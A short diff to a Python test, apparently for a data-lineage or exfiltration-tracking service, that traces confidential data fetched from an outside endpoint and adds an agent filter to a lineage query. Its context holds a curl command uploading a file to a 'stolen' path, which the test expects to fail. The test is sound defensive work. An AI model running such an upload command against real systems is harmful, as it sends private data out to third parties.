@@ -38,7 +38,7 @@ def test_from_a_service_over_a_file_to_who_read_it_and_who_tried_to_send_it(room
             sent = later.run_command(f"curl -4sS -m 20 -T answer {API}stolen")
             assert sent.exit_code != 0
             settled(later, 1)
-        (crm,) = client.lineage.list(endpoint="other.example.com").items
+        (crm,) = client.lineage.list(endpoint="other.example.com", agent_id="tracer").items
         assert crm.origin.endpoint == "tcp:other.example.com:8443"
         assert (crm.origin.method, crm.command_id) == ("GET", fetched.command_id)
         assert (crm.label, crm.session_id) == (Label.CONFIDENTIAL, box.info.session_id)
